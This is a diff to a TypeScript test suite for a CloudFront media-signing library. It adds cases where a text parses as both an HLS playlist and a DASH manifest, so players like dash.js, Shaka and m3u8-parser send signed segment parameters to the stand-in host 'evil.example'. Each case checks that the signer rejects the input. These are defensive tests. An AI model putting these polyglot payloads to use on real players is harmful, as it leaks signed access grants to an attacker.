@@ -1,3 +1,4 @@
+import { refusal } from "@cloudfront-sign-webcrypto/testing/support/refusal.ts";
 import { end, host, recorder } from "@cloudfront-sign-webcrypto/testing/support/signers.ts";
 import { signDashManifest } from "cloudfront-sign-media/dash";
 import { signHlsPlaylist } from "cloudfront-sign-media/hls";
@@ -130,9 +131,10 @@ describe("no reader sends the grant's parameters outside the grant", () => {
   });
 });
 
+const evil = "https://evil.example/";
+
 /** That the readers would follow these, and that the signer refuses them, is what makes the long run count. */
 describe("a reader follows what is refused", () => {
-  const evil = "https://evil.example/";
   const inSet = (attributes: string, inner: string) =>
     `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:xlink="http://www.w3.org/1999/xlink" type="static" mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4" codecs="avc1.4d401e"><SegmentTemplate media="$Number$.m4s?${mark}" duration="1"/><Representation id="1" bandwidth="1"${attributes}>${inner}</Representation></AdaptationSet></Period></MPD>`;
   const inMpd = (inner: string) => inSet("", "").replace("<Period>", `${inner}<Period>`);
@@ -197,5 +199,88 @@ describe("a reader follows what is refused", () => {
           uncovered,
         }),
       ).toThrow();
+  });
+});
+
+/**
+ * A text that is a playlist to one reader and a manifest to another: the page, its player or the content type decides
+ * which, not the author of the text.
+ */
+const leaks = (urls: readonly string[]): string[] =>
+  urls.filter((url) => url.startsWith(evil) && url.includes(mark));
+
+describe("a manifest in a playlist", () => {
+  const playlistUrl = `${host}/v/index.m3u8`;
+  const set =
+    'type="static" mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4" codecs="avc1.4d401e"><Representation id="1" bandwidth="1">';
+  const close = "</Representation></AdaptationSet></Period></MPD>";
+  /** A player drops the line breaks around the signed URI of a segment. */
+  const hidden = (lead: string) =>
+    `#EXTM3U${lead}<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" ${set}<BaseURL>${evil}</BaseURL><SegmentTemplate duration="4" media="\nseg.mp4?${mark}\n#"/>${close}\n`;
+
+  it.each([
+    ["dash.js", "a comment", "\n#"],
+    ["dash.js", "the first line", " "],
+    ["dash.js", "a title", "\n#EXTINF:4,"],
+    ["dash.js", "a tag of a vendor", '\n#EXT-X-YOSPACE-A:A="'],
+    ["dash.js", "an attribute", '\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="'],
+    ["dash.js", "a fragment", "\na.ts#"],
+    ["Shaka", "a comment", "\n#"],
+    ["Shaka", "a title", "\n#EXTINF:4,"],
+  ])("%s reads it in %s", async (name, _, lead) => {
+    const text = hidden(lead);
+    expect(leaks((await dashReaders[name]?.(text, playlistUrl)) ?? [])).not.toEqual([]);
+    for (const uncovered of ["throw", "leave"] as const) {
+      const unsigned = text.replace(`?${mark}`, "");
+      const { code } = await refusal(() => signHlsPlaylist(unsigned, grant, { playlistUrl, uncovered }));
+      expect(code).toBe("ERR_MANIFEST_INVALID");
+    }
+  });
+});
+
+describe("a playlist in a manifest", () => {
+  const manifestUrl = `${host}/v/manifest.mpd`;
+  const inMpd = (inner: string) => `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011">${inner}</MPD>`;
+
+  const first = "\n#EXTINF:1,\n";
+  it.each([
+    ["a comment", inMpd(`<!--${first}${evil}--><BaseURL>seg.ts?${mark}</BaseURL>`)],
+    ["a comment behind it", inMpd(`<!--\n${evil}--><BaseURL>seg.ts?${mark}</BaseURL><!--${first}-->`)],
+    [
+      "a tag",
+      inMpd(
+        `<!--\n#EXT-X-MAP:URI="${evil}--><BaseURL>seg.ts?${mark}</BaseURL><!--"\n#EXTINF:1,\na.ts\n#EXTINF:1,\na.ts\n-->`,
+      ),
+    ],
+    [
+      "an attribute",
+      inMpd(
+        `<Period><AdaptationSet><SegmentTemplate id="${first}${evil}" media="seg.ts?${mark}"/></AdaptationSet></Period>`,
+      ),
+    ],
+    [
+      "a text",
+      inMpd(
+        `<ProgramInformation><Title>${first}${evil}</Title></ProgramInformation><BaseURL>seg.ts?${mark}</BaseURL>`,
+      ),
+    ],
+    [
+      "a variable",
+      inMpd(
+        `<!--\n#EXT-X-DEFINE:NAME="a",VALUE="https"${first}{$a}://evil.example/--><BaseURL>seg.ts?${mark}</BaseURL>`,
+      ),
+    ],
+    [
+      "an indented line",
+      inMpd(`<!--${first.replace("#", " \t#")}${evil}--><BaseURL>seg.ts?${mark}</BaseURL>`),
+    ],
+  ])("m3u8-parser reads it in %s", async (_, xml) => {
+    const text = `${xml.replace(mark, `a=b${mark}`)}\n`;
+    expect(leaks(hlsReaders["m3u8-parser"]?.(text, manifestUrl, mark) ?? [])).not.toEqual([]);
+    for (const uncovered of ["throw", "leave"] as const) {
+      const unsigned = xml.replace(`?${mark}`, "");
+      const { code } = await refusal(() => signDashManifest(unsigned, grant, { manifestUrl, uncovered }));
+      expect(code).toBe("ERR_MANIFEST_INVALID");
+    }
   });
 });
